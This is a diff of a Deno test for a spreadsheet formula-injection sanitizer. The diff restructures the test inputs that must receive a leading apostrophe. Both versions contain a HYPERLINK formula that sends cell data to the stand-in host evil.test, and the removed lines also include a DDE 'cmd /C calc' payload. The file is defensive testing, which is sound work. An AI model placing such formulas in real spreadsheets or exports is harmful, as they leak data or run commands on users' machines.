@@ -22,26 +22,11 @@ const product = madeProduct({
 });
 
 Deno.test("harmless() puts an apostrophe before formulas, and only there", () => {
-  const run = [
-    '=HYPERLINK("http://evil.test/"&A1,"x")',
-    "+49 30 123456",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(A1:A9)",
-    "\t=1+1",
-    "\rx",
-    "\nx",
-    "  =1",
-    "\u00a0=1",
-    "\u200b=1",
-    "\ufeff=1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠1",
-    // A text that already has an apostrophe gets another one, so that reading restores the text.
-    "'=1",
-    "''=1",
-  ];
+  const plain = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
+  // A text that already has an apostrophe gets another one, so that reading restores the text.
+  const behind = ["\t", "\r", "\n", "  ", "\u00a0", "\u200b", "\ufeff", "'", "''"];
+  const starts = [...plain, ...behind.map((start) => `${start}=`)];
+  const run = ['=HYPERLINK("http://evil.test/"&A1,"x")', ...starts.map((start) => `${start}1+1`)];
   for (const text of run) {
     assertEquals(harmless(text), `'${text}`);
     assertEquals(withoutApostrophe(harmless(text)), text);
